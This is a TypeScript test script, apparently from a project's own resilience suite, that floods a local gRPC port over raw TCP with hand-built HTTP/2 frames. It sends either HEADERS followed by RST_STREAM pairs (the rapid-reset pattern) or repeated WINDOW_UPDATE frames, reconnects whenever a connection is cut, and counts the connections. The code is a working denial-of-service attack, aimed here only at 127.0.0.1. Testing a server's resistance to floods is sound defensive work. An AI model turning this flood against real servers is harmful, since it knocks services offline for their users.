/**
 * Connections to the gRPC port that flood it without a Hello, and come again when they are cut:
 * `strangers.js <port> <connections> <seconds> <reset | window-update>`. Prints how often they came.
 */
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { endWithParent, numberArgument, textArgument } from './lifeline.js';

const BATCH = 200;
const HEADERS = 1;
const RESET = 3;
const SETTINGS = 4;
const WINDOW_UPDATE = 8;
const END_HEADERS = 4;

const port = numberArgument(0);
const count = numberArgument(1);
const end = performance.now() + numberArgument(2) * 1000;
const kind = textArgument(3);

/** RFC 9113 section 4.1. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Literal fields without indexing, RFC 7541 section 6.2.2. */
const HEAD = Buffer.concat(
  Object.entries({
    ':method': 'POST',
    ':scheme': 'http',
    ':path': '/berth.tunnel.v1.Tunnel/Connect',
    ':authority': 'a',
    'content-type': 'application/grpc',
    te: 'trailers',
  }).flatMap(([name, value]) => [
    Buffer.of(0, name.length),
    Buffer.from(name),
    Buffer.of(value.length),
    Buffer.from(value),
  ]),
);

function batch(first: number): Buffer {
  const frames = Array.from({ length: BATCH }, (_, i) => {
    if (kind === 'window-update') return [frame(WINDOW_UPDATE, 0, 0, Buffer.of(0, 0, 0, 1))];
    const stream = first + 2 * i;
    return [frame(HEADERS, END_HEADERS, stream, HEAD), frame(RESET, 0, stream, Buffer.of(0, 0, 0, 8))];
  });
  return Buffer.concat(frames.flat());
}

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(SETTINGS, 0, 0, Buffer.alloc(0)),
]);
/** Made once, so that the attack costs the machine little beside what it attacks. */
const batches = Array.from({ length: 50 }, (_, i) => batch(1 + 2 * BATCH * i));

let came = 0;
async function attack(): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  const closed = new Promise((resolve) => socket.once('close', resolve));
  let next = 0;
  const more = (): void => {
    while (socket.writable && socket.write(batches[next++ % batches.length] ?? preface));
  };
  socket.on('error', () => undefined).resume();
  socket.once('connect', () => {
    came += 1;
    socket.write(preface);
    socket.on('drain', more);
    more();
  });
  const late = setTimeout(() => socket.destroy(), Math.max(0, end - performance.now()));
  await closed;
  clearTimeout(late);
}

endWithParent();
await Promise.all(
  Array.from({ length: count }, async () => {
    while (performance.now() < end) {
      await attack();
      await sleep(0);
    }
  }),
);
console.log(`came ${came}`);
process.exit(0);
